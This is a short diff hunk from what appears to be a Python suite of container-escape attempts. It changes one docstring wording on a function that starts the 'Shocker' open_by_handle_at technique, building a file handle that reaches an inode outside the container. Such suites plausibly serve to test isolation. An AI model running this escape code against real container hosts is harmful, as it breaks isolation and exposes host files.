@@ -231,7 +231,7 @@ def userfaultfd():
 
 @attack(root=True)
 def open_by_handle_at():
-    """Shocker: an inode by number, from any folder of the same file system."""
+    """Shocker: an inode by number, from any directory of the same file system."""
     handle = ctypes.create_string_buffer(struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0), 136)
     mount = os.open(".", os.O_RDONLY)
     try:
